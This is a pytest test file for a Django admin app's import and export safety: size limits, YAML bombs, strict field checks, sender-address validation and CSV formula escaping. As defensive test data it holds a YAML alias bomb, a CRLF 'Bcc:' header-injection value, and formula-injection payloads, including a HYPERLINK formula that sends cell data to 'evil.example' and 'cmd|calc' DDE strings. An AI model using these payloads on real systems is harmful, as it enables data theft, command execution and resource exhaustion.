"""Bad input loses nothing and exhausts nothing (issue 9, part 4): upload limits, YAML bombs, strict fields,
formula escaping, sender addresses, and ACE's writes during ``ace.send`` inside a caller's transaction."""

from __future__ import annotations

import json
import tracemalloc

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection, transaction
from django.urls import reverse

from ace_admin.content.resources import MessageTypeResource
from ace_admin.importing import SafeCSV, SafeJSON, SafeYAML, escape_formula, unescape_formula
from ace_admin.models import DeliveryLog, MessageType, OptOut, Template
from tests.ace_admin.conftest import make_message, send_email
from tests.factories import MessageTypeFactory, OptOutFactory, SuperuserFactory, SuppressionFactory

pytestmark = pytest.mark.django_db

MB = 1024 * 1024
# 430 bytes of aliases of aliases: expanded, 9**9 strings (what reached 2.8 GB before).
YAML_BOMB = "\n".join(["a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]"]
                      + [f"{chr(98 + i)}: &{chr(98 + i)} [" + ",".join([f"*{chr(97 + i)}"] * 9) + "]"
                         for i in range(8)]) + "\n"
FORMATS = {"json": 0, "yaml": 1, "csv": 2}


@pytest.fixture
def staff(client, db):
    client.force_login(SuperuserFactory(username="boss"))
    return client


def upload(client, model, data, fmt, name):
    file = SimpleUploadedFile(name, data.encode() if isinstance(data, str) else data)
    return client.post(reverse(f"admin:ace_admin_{model}_import"),
                       {"import_file": file, "format": str(FORMATS[fmt] if model != "optout" else 0),
                        "resource": "0"})


def peak_bytes(function, *args):
    """The peak memory (tracemalloc) that ``function(*args)`` allocated, and its exception if it raised."""
    tracemalloc.start()
    error = None
    try:
        function(*args)
    except Exception as exc:  # noqa: BLE001 — the refusal is what the tests look at
        error = exc
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    return peak, error


def test_the_yaml_bomb_is_refused_within_100_mb(staff):
    assert len(YAML_BOMB) < 500
    peak, error = peak_bytes(SafeYAML().create_dataset, YAML_BOMB)
    assert isinstance(error, ValueError) and "aliases" in str(error)
    assert peak < 100 * MB
    response = upload(staff, "messagetype", YAML_BOMB, "yaml", "bomb.yaml")
    assert response.status_code == 200 and "aliases" in response.content.decode()
    assert not MessageType.objects.exists()


def test_an_oversized_file_is_refused_before_it_is_parsed(staff, settings):
    big = json.dumps([{"app_label": "x", "name": f"n{i}", "description": "d" * 1000} for i in range(11000)])
    assert len(big) > 10 * MB  # over the default limit
    peak, error = peak_bytes(SafeJSON().create_dataset, big.encode())
    assert isinstance(error, ValueError) and "at most 10.0 MB" in str(error)
    assert peak < 100 * MB  # the size is looked at before the text is decoded or parsed
    response = upload(staff, "messagetype", big, "json", "big.json")
    page = response.content.decode()
    assert "imports accept at most 10.0 MB" in page and "ACE_ADMIN_IMPORT_MAX_BYTES" in page
    assert not MessageType.objects.exists()
    settings.ACE_ADMIN_IMPORT_MAX_BYTES = 100
    response = upload(staff, "optout", "email\n" + "a@example.org\n" * 20, "csv", "optouts.csv")
    assert "imports accept at most 100 bytes" in response.content.decode()
    assert not OptOut.objects.exists()


def test_deep_nesting_and_duplicate_keys_are_refused():
    with pytest.raises(ValueError, match="nested"):
        SafeJSON().create_dataset("[" * 100000 + "]" * 100000)
    with pytest.raises(ValueError, match="nested"):
        SafeYAML().create_dataset("a: " + "[" * 5000 + "]" * 5000)
    with pytest.raises(ValueError, match="appears twice"):
        SafeJSON().create_dataset('[{"app_label": "a", "name": "b", "name": "c"}]')
    with pytest.raises(ValueError, match="appears twice"):
        SafeYAML().create_dataset("- app_label: a\n  name: b\n  name: c\n")


ROW = {"app_label": "shop", "name": "welcome", "description": "", "category": "", "transactional": "false",
       "enabled": "true", "from_address": "", "reply_to": "", "sample_context": "{}", "templates": "[]"}


def import_rows(*changes, fmt="json"):
    rows = [{**ROW, **change} for change in changes]
    dataset = SafeJSON().create_dataset(json.dumps(rows))
    return MessageTypeResource().import_data(dataset, dry_run=False)


def errors_of(result) -> str:
    texts = [str(error.error) for error in result.base_errors]
    for row in result.invalid_rows:
        texts.extend(f"{field}: {messages}" for field, messages in row.error_dict.items())
    for row in result.rows:
        texts.extend(str(error.error) for error in row.errors)
    return " | ".join(texts)


@pytest.mark.parametrize("change, expected", [
    ({"transactional": "maybe"}, "must be true or false"),
    ({"enabled": ""}, "must be true or false"),
    ({"transactional": 2}, "must be true or false"),
    ({"sample_context": '"a string"'}, "must be a JSON object"),
    ({"sample_context": "[1, 2]"}, "must be a JSON object"),
    ({"sample_context": '{"a": 1, "a": 2}'}, "appears twice"),
    ({"templates": '{"name": "x"}'}, "must be a JSON list"),
    ({"templates": '[{"name": "shop/edx_ace/welcome/email/subject.txt", "content": "x", "published": "maybe"}]'},
     "published must be true or false"),
    ({"templates": '[{"name": "shop/edx_ace/welcome/email/subject.txt", "content": "x", "colour": "red"}]'},
     "unknown key"),
    ({"trasactional": "true"}, "Unknown column(s): trasactional"),
    ({"from_address": "a@b.org, c@d.org"}, "exactly one address"),
    ({"from_address": "Bank Security <security@bank.example>\r\nBcc: all@example.org"}, "one line"),
    ({"reply_to": "Support"}, "not a valid email address"),
    ({"reply_to": "Bank, Security <s@bank.example>"}, "quote a name"),
])
def test_imports_validate_every_field_strictly(change, expected):
    result = import_rows(change)
    assert result.has_errors() or result.has_validation_errors()
    assert expected in errors_of(result)
    assert not MessageType.objects.exists() and not Template.objects.exists()


def test_a_valid_row_still_imports_with_words_for_booleans():
    result = import_rows({"transactional": "Yes", "enabled": "no", "from_address": '"Doe, Jane" <jane@example.org>',
                          "sample_context": '{"user_name": "Ada"}'})
    assert not result.has_errors() and not result.has_validation_errors(), errors_of(result)
    imported = MessageType.objects.get()
    assert (imported.transactional, imported.enabled, imported.sample_context) == (True, False, {"user_name": "Ada"})
    assert imported.from_address == '"Doe, Jane" <jane@example.org>'  # kept as typed, never rewritten


def test_the_admin_form_refuses_a_bad_sender_and_a_string_sample_context(staff):
    data = {"app_label": "shop", "name": "welcome", "description": "", "category": "", "enabled": "on",
            "from_address": "a@b.org, c@d.org", "reply_to": "x@example.org\nBcc: y@example.org",
            "seed_addresses": "", "sample_context": '"just a string"',
            "templates-TOTAL_FORMS": "0", "templates-INITIAL_FORMS": "0"}
    response = staff.post(reverse("admin:ace_admin_messagetype_add"), data)
    assert response.status_code == 200
    errors = response.context["adminform"].form.errors
    assert "exactly one address" in str(errors["from_address"])
    assert "one line" in str(errors["reply_to"])
    assert "JSON object" in str(errors["sample_context"])
    assert not MessageType.objects.exists()


FORMULAE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
            "\t=1+1", "\r=1+1", "'=already quoted"]


@pytest.mark.parametrize("value", FORMULAE)
def test_formula_escaping_is_reversible(value):
    escaped = escape_formula(value)
    assert escaped.startswith("'")
    assert unescape_formula(escaped) == value
    assert escape_formula("plain") == "plain" and unescape_formula("'plain") == "'plain"


def test_exports_escape_formulae_and_reimport_unchanged(staff):
    MessageTypeFactory(app_label="shop", name="welcome", description=FORMULAE[0], category="news")
    OptOutFactory(email="=cmd|'/calc'!a0@example.org", lms_user_id="-5")
    from django.contrib import admin

    from ace_admin.content.resources import OptOutResource

    # Every admin that exports offers the escaping CSV format only (JSON/YAML carry values exactly).
    for model in (MessageType, Template, OptOut):
        assert SafeCSV in admin.site._registry[model].formats
    csv_text = SafeCSV().export_data(MessageTypeResource().export())
    assert "'=HYPERLINK" in csv_text and ",=HYPERLINK" not in csv_text
    opt_out_csv = SafeCSV().export_data(OptOutResource().export())
    assert "'=cmd|" in opt_out_csv and "'-5" in opt_out_csv
    dataset = SafeCSV().create_dataset(opt_out_csv)
    assert dataset.dict[0]["email"] == "=cmd|'/calc'!a0@example.org" and dataset.dict[0]["lms_user_id"] == "-5"
    OptOut.objects.all().delete()
    result = OptOutResource().import_data(dataset, dry_run=False)
    assert not result.has_errors() and not result.has_validation_errors()
    assert OptOut.objects.get().email == "=cmd|'/calc'!a0@example.org"
    MessageType.objects.all().delete()
    result = MessageTypeResource().import_data(SafeCSV().create_dataset(csv_text), dry_run=False)
    assert not result.has_errors() and not result.has_validation_errors(), errors_of(result)
    assert MessageType.objects.get().description == FORMULAE[0]


def test_the_suppression_export_escapes_formulae(staff):
    from ace_admin.models import Suppression

    SuppressionFactory(email="@x@example.org", details="=1+1")
    from django.contrib import admin

    from ace_admin.privacy.admin import SuppressionResource

    assert admin.site._registry[Suppression].formats == [SafeCSV]
    text = SafeCSV().export_data(SuppressionResource().export())
    assert "'=1+1" in text and ",=1+1" not in text


def test_send_inside_a_transaction_with_an_over_long_recipient_id_leaves_it_usable(db):
    long_id = "u" * 300
    with transaction.atomic():
        MessageTypeFactory(app_label="ace_admin_tests", name="welcome")
        _, email = send_email(make_message(user_id=long_id, email="ann@example.com"))
        assert email is not None  # the email went out
        # The caller's transaction is still usable: no TransactionManagementError on the next query.
        assert MessageType.objects.count() == 1
        row = DeliveryLog.objects.get()
    assert row.status == "sent" and len(row.recipient_id) <= 64
    assert row.recipient_id.startswith("u" * 30) and "sha256:" in row.recipient_id
    # The same person keeps the same fingerprint (frequency caps count them together).
    with transaction.atomic():
        send_email(make_message(user_id=long_id, email="ann@example.com"))
    assert DeliveryLog.objects.filter(recipient_id=row.recipient_id).count() == 2
    with connection.cursor() as cursor:
        cursor.execute("SELECT 1")  # the connection is healthy


def test_an_over_long_address_is_suppressed_by_fingerprint(db):
    from ace_admin.models import Suppression, identity_hash
    from ace_admin.privacy.suppression import suppress

    address = "a" * 250 + "@example.org"
    with transaction.atomic():
        entry = suppress(address, reason=Suppression.REASON_BOUNCE, details="550", source="x" * 300)
        assert MessageType.objects.count() == 0  # still usable
    assert entry.email == "" and entry.address_hash == identity_hash(address)
